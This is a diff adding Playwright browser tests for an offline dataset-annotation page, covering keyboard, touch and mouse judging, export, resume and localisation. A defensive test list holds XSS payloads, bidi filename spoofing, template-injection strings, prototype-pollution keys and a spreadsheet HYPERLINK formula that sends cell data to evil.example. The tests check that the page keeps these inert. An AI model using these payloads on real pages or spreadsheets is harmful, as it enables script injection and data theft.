@@ -1,0 +1,563 @@
+"""The annotator's page in Chromium, from disk: judged by key, mouse and touch, kept, exported, resumed, unharmed."""
+
+import base64
+import io
+import json
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import Image
+
+from validation.annotation.package import Item, Package, Text, Turn, Vote
+from validation.annotation.page import page
+from validation.annotation.texts import LANGUAGES, texts
+
+playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine")
+
+FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
+HOSTILE = (
+    "<img src=x onerror=alert(1)>",
+    "</script><script>alert(2)</script>",
+    "<svg onload=alert(3)><a href=javascript:alert(4)>x</a>",
+    "safe\u202egnp.exe\u202c \u2067hidden\u2069",
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "one\u2028two\u2029three\x00four\x1b[31m",
+    "W" * 3_000,
+    "half \ud83d of a pair, and a whole \U0001f600",
+    "http://evil.example/tracker.png ![](http://evil.example/i.png)",
+    "{{ 7*7 }} ${alert(5)} `alert(6)` &lt;b&gt;",
+    "line\r\nline",
+)
+WRITTEN = 300  # Milliseconds: a browser writes what a page keeps a moment later.
+
+
+def picture(number: int) -> str:
+    data = io.BytesIO()
+    Image.new("RGB", (320, 200), (5 * number, 120, 200 - 3 * number)).save(data, "JPEG")
+    return "data:image/jpeg;base64," + base64.b64encode(data.getvalue()).decode()
+
+
+def item(number: int) -> Item:
+    return Item(
+        item_id=f"it-{number:04d}",
+        texts=(
+            Text("question", f"What is number {number}?", f"Zer da {number}. zenbakia?"),
+            Text("options.0", "a house", "etxe bat"),
+            Text("options.1", "a tree", "zuhaitz bat"),
+        ),
+        conversation=(Turn("human", f"<image>\nZer da {number}. zenbakia?"), Turn("gpt", "etxe bat")),
+        boxes=((0.1, 0.2, 0.5, 0.6), (0.5, 0.5, 0.9, 1.0)),
+        image=picture(number),
+        width=320,
+        height=200,
+    )
+
+
+def package(*items: Item, **changes: Any) -> Package:
+    made = Package("toy.round-1.ane", "ane", "accept", "A toy", "en", "en", "", items)
+    return replace(made, **changes)
+
+
+def write(folder: Path, made: Package) -> str:
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / f"{made.package_id}.html"
+    path.write_text(page(made), encoding="utf-8")
+    return path.as_uri()
+
+
+class Watch:
+    """What a page asked for, and what went wrong in it."""
+
+    def __init__(self, context: Any) -> None:
+        self.asked: list[str] = []
+        self.wrong: list[str] = []
+        self.dialogs: list[str] = []
+        context.on("request", lambda request: self.asked.append(request.url))
+        context.on("console", lambda said: self.wrong.append(said.text))
+        context.on("weberror", lambda error: self.wrong.append(str(error.error)))
+        context.on("dialog", self._dialog)
+        context.add_init_script(
+            "addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective))"
+        )
+
+    def _dialog(self, dialog: Any) -> None:
+        self.dialogs.append(dialog.type)
+        dialog.accept()
+
+    def check(self) -> None:
+        assert self.wrong == []
+        assert all(url.startswith(("file:///", "data:image/jpeg", "blob:")) for url in self.asked)
+        assert set(self.dialogs) <= {"beforeunload"}
+
+
+@pytest.fixture(scope="module")
+def running() -> Iterator[Any]:
+    with playwright.sync_playwright() as started:
+        yield started
+
+
+@pytest.fixture(scope="module")
+def browser(running: Any) -> Iterator[Any]:
+    launched = running.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+    yield launched
+    launched.close()
+
+
+@contextmanager
+def opened(browser: Any, address: str, **options: Any) -> Iterator[Any]:
+    """A tab on a page in a profile of its own, past the guidelines; what it did is checked at the end."""
+    context = browser.new_context(**({"locale": "en-GB", "viewport": {"width": 1280, "height": 800}} | options))
+    watch = Watch(context)
+    tab = context.new_page()
+    tab.watch = watch
+    tab.goto(address)
+    tab.keyboard.press("Enter")
+    yield tab
+    context.close()
+    watch.check()
+
+
+def press(tab: Any, keys: str) -> None:
+    for key in keys.split():
+        tab.keyboard.press(key)
+
+
+def export(tab: Any, into: Path) -> dict[str, Any]:
+    """Export by key; the file's content."""
+    with tab.expect_download() as download:
+        tab.keyboard.press("x")
+    download.value.save_as(into / download.value.suggested_filename)
+    return read(into / download.value.suggested_filename)
+
+
+def read(path: Path) -> dict[str, Any]:
+    value: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
+    return value
+
+
+def reload(tab: Any) -> None:
+    tab.wait_for_timeout(WRITTEN)
+    tab.reload()
+
+
+def resume(tab: Any, path: Path) -> str:
+    press(tab, "o")
+    tab.locator("#resume").set_input_files(path)
+    playwright.expect(tab.locator("#status")).not_to_be_empty()
+    said: str = tab.locator("#status").inner_text()
+    press(tab, "Escape")
+    return said
+
+
+def heading(tab: Any) -> str:
+    text: str = tab.locator("h1:visible").inner_text()
+    return text
+
+
+def label_of(number: int) -> str:
+    return "reject" if number % 5 == 3 else "unsure" if number % 7 == 0 else "accept"
+
+
+def judge(tab: Any, number: int) -> None:
+    """Judge the item on screen by keyboard alone, as `label_of` has it."""
+    assert heading(tab) == f"Item {number + 1} of 40"
+    label = label_of(number)
+    press(tab, {"accept": "1", "reject": "2", "unsure": "3"}[label])
+    if label != "reject":
+        return
+    press(tab, "q r")
+    if number == 13:
+        press(tab, "r t c")
+        tab.keyboard.type('ez da "hori" <b>\u202e')
+        press(tab, "Escape f End")
+        tab.keyboard.type(" Bai?")
+        press(tab, "Tab Tab End")
+        tab.keyboard.type("!")
+        press(tab, "Escape")
+    press(tab, "ArrowRight")
+
+
+def test_forty_items_by_keyboard_with_the_browser_closed_and_opened_again(running: Any, tmp_path: Path) -> None:
+    made = package(*map(item, range(40)))
+    address = write(tmp_path / "a", made)
+    options = {
+        "executable_path": CHROMIUM, "args": FLAGS, "accept_downloads": True, "locale": "en-GB",
+        "viewport": {"width": 1280, "height": 800},
+    }  # fmt: skip
+    with running.chromium.launch_persistent_context(tmp_path / "profile", **options) as context:
+        watch = Watch(context)
+        tab = context.pages[0]
+        tab.goto(address)
+        assert heading(tab) == "Guidelines"
+        press(tab, "Enter")
+        for number in range(20):
+            judge(tab, number)
+        tab.wait_for_timeout(WRITTEN)
+    watch.check()
+    with running.chromium.launch_persistent_context(tmp_path / "profile", **options) as context:
+        watch = Watch(context)
+        tab = context.pages[0]
+        tab.goto(address)
+        assert tab.locator("#progress").inner_text() == "20 of 40 judged"
+        for number in range(20, 40):
+            judge(tab, number)
+        assert tab.locator("#outcome").inner_text() == "All items are judged. Thank you!"
+        value = export(tab, tmp_path)
+        assert f"Saved as {made.package_id}.json, with 40 of 40 items judged." in tab.locator("#status").inner_text()
+        # Another package, and a changed one of the same name, know nothing of it.
+        for other in (package(*map(item, range(40)), package_id="other"), package(*map(item, range(40)), title="B")):
+            tab.goto(write(tmp_path / "b", other))
+            assert tab.locator("#progress").inner_text() == "0 of 40 judged"
+    watch.check()
+    judgements = value.pop("judgements")
+    moments = [value.pop("started"), *(each.pop("at") for each in judgements), value.pop("exported")]
+    assert moments == sorted(moments)
+    assert all(isinstance(each.pop("ms"), int) for each in judgements)
+    assert value == {
+        "format": "vlm-annotations/1",
+        "package_id": made.package_id,
+        "package_sha256": made.sha256,
+        "annotator": "ane",
+        "task": "accept",
+    }
+    for number, judgement in enumerate(judgements):
+        label = label_of(number)
+        assert judgement == {
+            "item_id": f"it-{number:04d}",
+            "label": label,
+            "reasons": [] if label != "reject" else ["meaning", "other" if number == 13 else "image-mismatch"],
+            "comment": 'ez da "hori" <b>\u202e' if number == 13 else "",
+            "corrections": {"question": "Zer da 13. zenbakia? Bai?", "options.0": "etxe bat!"} if number == 13 else {},
+        }
+
+
+def test_resumed_in_another_browser_the_newest_judgement_wins(browser: Any, tmp_path: Path) -> None:
+    address = write(tmp_path, package(*map(item, range(4))))
+    with opened(browser, address) as tab:
+        press(tab, "1 2 q ArrowRight f End")
+        tab.keyboard.type(" c")
+        press(tab, "Escape 1")
+        first = export(tab, tmp_path)
+    file = tmp_path / "toy.round-1.ane.json"
+    with opened(browser, address) as tab:
+        press(tab, "3")
+        assert resume(tab, file) == "Judgements taken from the file: 2."
+        assert tab.locator("#progress").inner_text() == "3 of 4 judged"
+        second = export(tab, tmp_path)
+        assert [each["label"] for each in second["judgements"]] == ["unsure", "reject", "accept"]
+        assert second["judgements"][1:] == first["judgements"][1:]
+        assert resume(tab, file) == "Judgements taken from the file: 0."
+        third = export(tab, tmp_path)
+        assert third["judgements"] == second["judgements"]
+
+
+def test_what_is_no_export_of_this_page_is_refused_and_changes_nothing(browser: Any, tmp_path: Path) -> None:
+    made = package(*map(item, range(3)))
+    good = {"format": "vlm-annotations/1", "package_id": made.package_id, "package_sha256": made.sha256}
+    judgement = {"item_id": "it-0001", "label": "accept", "at": "2026-01-01T00:00:00.000Z"}
+    files = {
+        "not JSON": "is not a file that this page exported, or is damaged",
+        "[]": "was not exported by a page like this one",
+        "null": "was not exported by a page like this one",
+        json.dumps(good): "was not exported by a page like this one",
+        json.dumps(good | {"package_id": "other", "judgements": [judgement]}): "belongs to another page",
+        json.dumps(good | {"package_sha256": "0" * 64, "judgements": [judgement]}): "another version of this page",
+        " " * 20_000_001: "is too large",
+    }
+    with opened(browser, write(tmp_path, made)) as tab:
+        press(tab, "1")
+        file = tmp_path / "file.json"
+        for content, message in files.items():
+            file.write_text(content)
+            assert message in resume(tab, file)
+            assert tab.locator("#progress").inner_text() == "1 of 3 judged"
+        odd = {"reasons": "q", "comment": 7, "ms": "NaN", "at": "yesterday", "corrections": []}
+        strange = [
+            *(None, 7, "x", [], {}),
+            *(judgement | {"item_id": item_id} for item_id in ("it-9999", "__proto__", None, ["it-0001"])),
+            judgement | odd | {"label": "constructor"},
+            judgement
+            | {"item_id": "it-0002", "label": "reject", "reasons": ["meaning", "evil"], "comment": "<b>", "ms": -1}
+            | {"corrections": {"question": 7, "options.0": "", "other": "x", "options.1": "x"}},
+        ]
+        file.write_text(json.dumps(good | {"judgements": strange}))
+        resume(tab, file)
+        labels = export(tab, tmp_path)["judgements"]
+    assert [each["item_id"] for each in labels] == ["it-0000", "it-0002"]
+    assert labels[1] == {
+        "item_id": "it-0002",
+        "label": "reject",
+        "reasons": ["meaning"],
+        "comment": "<b>",
+        "corrections": {"options.1": "x"},
+        "ms": 0,
+        "at": "2026-01-01T00:00:00.000Z",
+    }
+
+
+def test_hostile_texts_are_shown_and_do_nothing(browser: Any, tmp_path: Path) -> None:
+    texts_ = tuple(Text(f"field{n}", each, each) for n, each in enumerate(HOSTILE))
+    named = tuple(Text(name, "a", "b") for name in ("__proto__", "constructor", "toString.0", HOSTILE[1]))
+    boxes = ((0.0, 0.0, 1.0, 1.0), (0.9, 0.2, 0.1, 0.3), (-5.0, 0.0, 7.0, 0.5))
+    turns = tuple(Turn(each, each) for each in HOSTILE)
+    items = (
+        Item("it-1", texts_, turns, boxes, picture(1), 320, 200),
+        Item("it-2", named, image_note=HOSTILE[0]),
+        Item("__proto__", texts_, image="http://evil.example/x.png".replace("http:", "data:text/html,")),
+    )
+    votes = (Vote("reject", ("meaning", HOSTILE[0]), HOSTILE[3], {"field0": HOSTILE[1], "__proto__": "p"}),)
+    items = tuple(replace(each, votes=votes) for each in items)
+    made = package(*items, title=HOSTILE[1] + HOSTILE[3], guidelines="\n\n".join(HOSTILE), target_language='"><b>')
+    with opened(browser, write(tmp_path, made)) as tab:
+        shown = tab.locator(".fields .source .said").all_text_contents()
+        marks = {"\u202e": "U+202E", "\u202c": "U+202C", "\u2067": "U+2067", "\u2069": "U+2069", "\r": ""}
+        marks |= {"\u2028": "U+2028", "\u2029": "U+2029", "\x00": "U+0000", "\x1b": "U+001B", "\ud83d": "U+D83D"}
+        assert shown == [text.translate(str.maketrans(marks)) for text in HOSTILE]
+        assert tab.evaluate("document.documentElement.scrollWidth") == 1280
+        assert tab.locator("#item img").count() == 1
+        assert tab.locator("#item script, #item a, #item b:not(.reject), #item svg a").count() == 0
+        press(tab, "f End")
+        tab.keyboard.type("x")
+        press(tab, "Escape 2 q g g o Escape ArrowRight f End")
+        tab.keyboard.type("x")
+        press(tab, "Escape 1 1")
+        value = export(tab, tmp_path)
+        assert tab.evaluate("({}).label === undefined && ({}).b === undefined")
+        # A line's end or half a pair that the dataset has is no correction of it.
+        assert [each["corrections"] for each in value["judgements"]] == [
+            {"field0": HOSTILE[0] + "x"},
+            {"__proto__": "bx"},
+            {},
+        ]
+
+
+def test_pairs_are_judged_left_tie_right(browser: Any, tmp_path: Path) -> None:
+    items = tuple(replace(item(n), left=f"left {n}\n=1+1", right=f"right {n}") for n in range(4))
+    with opened(browser, write(tmp_path, package(*items, task="pair"))) as tab:
+        assert tab.locator(".answers .said").all_text_contents() == ["left 0\n=1+1", "right 0"]
+        assert tab.locator(".answers h2").all_text_contents() == ["First answer", "Second answer"]
+        boxes = [box.bounding_box() for box in tab.locator(".answers > div").all()]
+        assert boxes[0]["y"] == boxes[1]["y"]
+        press(tab, "f q 1 2")
+        assert tab.locator(".reasons button:visible").count() == 0
+        press(tab, "c")
+        tab.keyboard.type("both name it")
+        press(tab, "Escape 3")
+        assert tab.locator("#progress").inner_text() == "3 of 4 judged"
+        value = export(tab, tmp_path)
+    assert value["task"] == "pair"
+    found = [(each["label"], each["comment"], each["reasons"], each["corrections"]) for each in value["judgements"]]
+    assert found == [("left", "", [], {}), ("tie", "", [], {}), ("right", "both name it", [], {})]
+
+
+def test_whoever_adjudicates_sees_what_the_others_said_and_takes_a_correction(browser: Any, tmp_path: Path) -> None:
+    votes = (Vote("reject", ("meaning", "other"), "ez", {"question": "Zer da hau?"}), Vote("accept"), Vote("unsure"))
+    with opened(browser, write(tmp_path, package(replace(item(1), votes=votes)))) as tab:
+        said = [" ".join(each.split()) for each in tab.locator(".votes li").all_inner_texts()]
+        assert said == [
+            "✕ Reject · Meaning, Other ez Question Zer da hau? Take this correction",
+            "✓ Accept",
+            "? Unsure",
+        ]
+        tab.get_by_role("button", name="Take this correction").click()
+        assert tab.get_by_label("Corrected text: question").input_value() == "Zer da hau?"
+        press(tab, "Escape 1")
+        (judgement,) = export(tab, tmp_path)["judgements"]
+    assert (judgement["label"], judgement["corrections"]) == ("accept", {"question": "Zer da hau?"})
+
+
+def test_a_correction_is_undone_and_a_changed_mind_leaves_no_reasons(browser: Any, tmp_path: Path) -> None:
+    with opened(browser, write(tmp_path, package(item(1), item(2)))) as tab:
+        press(tab, "f")
+        area = tab.get_by_label("Corrected text: question")
+        area.fill("Beste bat")
+        tab.get_by_role("button", name="Undo").first.click()
+        area = tab.get_by_label("Corrected text: options.1")
+        area.fill("   ")
+        press(tab, "Escape 2 q w ArrowRight ArrowLeft 1")
+        (judgement,) = export(tab, tmp_path)["judgements"]
+        assert (judgement["label"], judgement["reasons"], judgement["corrections"]) == ("accept", [], {})
+        # To look at an item again changes nothing of it; to say the same again neither.
+        press(tab, "ArrowLeft 1")
+        assert export(tab, tmp_path)["judgements"] == [judgement]
+
+
+def test_the_page_speaks_the_language_of_the_translation(browser: Any, tmp_path: Path) -> None:
+    with opened(browser, write(tmp_path, package(item(1)))) as tab:
+        for language in LANGUAGES:
+            say = texts(language)
+            tab.goto(write(tmp_path, package(item(1), item(2), target_language=language)))
+            assert tab.evaluate("document.documentElement.lang") == language
+            assert heading(tab) == say["guidelines"]
+            assert tab.locator(".prose:visible").get_attribute("lang") == language
+            press(tab, "Enter")
+            labels = [say["labels"][label] for label in ("accept", "reject", "unsure")]
+            assert tab.locator(".labels button").all_text_contents() == [
+                f"{each}{n}" for n, each in enumerate(labels, 1)
+            ]
+            assert tab.locator(".target .said").first.get_attribute("lang") == language
+
+
+def test_a_language_is_chosen_and_kept(browser: Any, tmp_path: Path) -> None:
+    address = write(tmp_path, package(item(1), target_language="cy"))
+    with opened(browser, address, locale="fr-CA") as tab:
+        assert tab.evaluate("document.documentElement.lang") == "fr"
+        tab.get_by_label(texts("fr")["language"]).select_option("eu")
+        assert heading(tab) == "1. elementua, 1 guztira"
+        reload(tab)
+        assert tab.evaluate("document.documentElement.lang") == "eu"
+        assert tab.evaluate("document.title") == "A toy"
+    with opened(browser, write(tmp_path, package(item(1), target_language="eus")), locale="ja-JP") as tab:
+        assert tab.evaluate("document.documentElement.lang") == "eu"
+
+
+def test_by_touch_on_a_phone(browser: Any, tmp_path: Path) -> None:
+    items = (item(0), replace(item(1), texts=(Text("text", "W" * 500, "W" * 500),)), item(2))
+    phone = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
+    with opened(browser, write(tmp_path, package(*items)), **phone) as tab:
+        tab.keyboard.press("g")
+        tab.get_by_role("button", name="Start").tap()
+        for language in LANGUAGES:
+            tab.evaluate("(language) => speak(language)", language)
+            for key in ("2", "g", "o", "Escape"):
+                tab.keyboard.press(key)
+                assert tab.evaluate("document.documentElement.scrollWidth") == 390
+                heights = "[...document.querySelectorAll('button')].map((each) => each.offsetHeight)"
+                assert min(filter(None, tab.evaluate(heights))) >= 44
+        tab.evaluate("speak('en')")
+        image, text = tab.locator("#item img").bounding_box(), tab.locator(".source").first.bounding_box()
+        target, bar = tab.locator(".target").first.bounding_box(), tab.locator("footer").bounding_box()
+        assert image["y"] + image["height"] <= text["y"] < target["y"]
+        assert bar["y"] + bar["height"] == 844
+        tab.get_by_role("button", name="Grammar").tap()
+        tab.get_by_role("button", name="Next item").tap()
+        tab.get_by_role("button", name="Accept").tap()
+        tab.locator(".zoom").tap()
+        assert tab.locator(".zoom").bounding_box()["height"] == 844
+        tab.locator(".zoom").tap()
+        tab.get_by_role("button", name="Unsure").tap()
+        tab.get_by_role("button", name="Item 1 of 3: Reject").tap()
+        assert tab.get_by_role("button", name="Grammar").get_attribute("aria-pressed") == "true"
+        found = export(tab, tmp_path)["judgements"]
+    assert [(each["label"], each["reasons"]) for each in found] == [
+        ("reject", ["grammar"]),
+        ("accept", []),
+        ("unsure", []),
+    ]
+
+
+def test_by_mouse_alone(browser: Any, tmp_path: Path) -> None:
+    with opened(browser, write(tmp_path, package(item(0), item(1), item(2)))) as tab:
+        tab.get_by_role("button", name="Reject").click()
+        tab.get_by_role("button", name="Meaning").click()
+        tab.get_by_role("button", name="Correct: options.0").click()
+        assert tab.get_by_label("Corrected text: options.0").input_value() == "etxe bat"
+        tab.get_by_label("Corrected text: options.0").fill("etxea")
+        tab.get_by_label("Comment").fill("hobe")
+        tab.get_by_role("button", name="0 of 3").or_(tab.get_by_role("button", name="1 of 3")).first.click()
+        tab.get_by_role("button", name="Next open item").click()
+        assert heading(tab) == "Item 2 of 3"
+        tab.get_by_role("button", name="Accept").click()
+        tab.get_by_role("button", name="1 of 3").or_(tab.get_by_role("button", name="2 of 3 judged")).first.click()
+        with tab.expect_download() as download:
+            tab.locator("#overview").get_by_role("button", name="Export").click()
+        found = json.loads(Path(download.value.path()).read_text())["judgements"]
+    assert [(each["label"], each["corrections"], each["comment"]) for each in found] == [
+        ("reject", {"options.0": "etxea"}, "hobe"),
+        ("accept", {}, ""),
+    ]
+
+
+def test_keys_of_other_keyboards_and_a_key_held_down(browser: Any, tmp_path: Path) -> None:
+    address = write(tmp_path, package(*map(item, range(6))))
+    with opened(browser, address) as tab:
+        send = "(event) => document.body.dispatchEvent(new KeyboardEvent('keydown', { bubbles: true, ...event }))"
+        tab.evaluate(send, {"key": "&", "code": "Digit1"})
+        tab.evaluate(send, {"key": "3", "code": "Numpad3"})
+        tab.evaluate(send, {"key": "2", "code": "Digit2"})
+        tab.evaluate(send, {"key": "й", "code": "KeyQ"})
+        tab.evaluate(send, {"key": "W", "code": "KeyZ"})
+        for ignored in ({"repeat": True}, {"ctrlKey": True}, {"altKey": True}, {"isComposing": True}):
+            tab.evaluate(send, {"key": "1", "code": "Digit1"} | ignored)
+        found = export(tab, tmp_path)["judgements"]
+    assert [(each["label"], each["reasons"]) for each in found] == [
+        ("accept", []),
+        ("unsure", []),
+        ("reject", ["meaning", "grammar"]),
+    ]
+
+
+def test_time_is_counted_while_somebody_works(browser: Any, tmp_path: Path) -> None:
+    address = write(tmp_path, package(*map(item, range(3))))
+    hide = "(hidden) => { Object.defineProperty(document, 'hidden', { value: hidden, configurable: true });"
+    hide += "document.dispatchEvent(new Event('visibilitychange')); }"
+    with opened(browser, address) as tab:
+        tab.clock.install()
+        reload(tab)
+        tab.clock.run_for(4000)
+        press(tab, "1")
+        tab.clock.run_for(600_000)
+        press(tab, "1")
+        tab.clock.run_for(2000)
+        tab.evaluate(hide, True)
+        tab.clock.run_for(30_000)
+        tab.evaluate(hide, False)
+        tab.clock.run_for(3000)
+        press(tab, "1")
+        times = [each["ms"] for each in export(tab, tmp_path)["judgements"]]
+    assert times == [pytest.approx(4000, abs=900), pytest.approx(60_000, abs=900), pytest.approx(5000, abs=900)]
+
+
+def test_a_browser_that_keeps_nothing_says_so(browser: Any, tmp_path: Path) -> None:
+    address = write(tmp_path, package(item(0), item(1)))
+    with opened(browser, address) as tab:
+        tab.evaluate("try { for (let n = 0; ; n++) localStorage.setItem('x' + n, 'y'.repeat(2 ** 16)); } catch {}")
+        tab.evaluate("try { for (let n = 0; ; n++) localStorage.setItem('z' + n, 'y'); } catch {}")
+        press(tab, "1")
+        assert tab.locator("#problem").inner_text() == texts("en")["storage_full"]
+        tab.evaluate("localStorage.clear()")
+        press(tab, "1")
+        assert tab.locator("#problem").inner_text() == ""
+    blocked = (
+        "Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError'); } })"
+    )
+    context = browser.new_context(locale="en-GB")
+    context.add_init_script(blocked)
+    tab = context.new_page()
+    tab.goto(address)
+    press(tab, "Enter 1")
+    assert tab.locator("#problem").inner_text() == texts("en")["storage_blocked"]
+    context.close()
+
+
+def test_a_page_with_judgements_not_exported_asks_before_it_is_left(browser: Any, tmp_path: Path) -> None:
+    address = write(tmp_path, package(item(0), item(1)))
+    with opened(browser, address) as tab:
+        reload(tab)
+        assert tab.watch.dialogs == []
+        press(tab, "1")
+        reload(tab)
+        assert tab.watch.dialogs == ["beforeunload"]
+        press(tab, "o")
+        assert tab.locator("#exported").inner_text() == texts("en")["unexported"]
+        export(tab, tmp_path)
+        reload(tab)
+        assert tab.watch.dialogs == ["beforeunload"]
+
+
+def test_another_tab_of_the_same_page_does_not_lose_anything(browser: Any, tmp_path: Path) -> None:
+    with opened(browser, write(tmp_path, package(*map(item, range(4))))) as tab:
+        other = tab.context.new_page()
+        other.goto(tab.url)
+        press(tab, "1 3")
+        playwright.expect(other.locator("#progress")).to_have_text("2 of 4 judged")
+        press(other, "n 2")
+        playwright.expect(tab.locator("#progress")).to_have_text("3 of 4 judged")
+        assert [each["label"] for each in export(tab, tmp_path)["judgements"]] == ["accept", "unsure", "reject"]
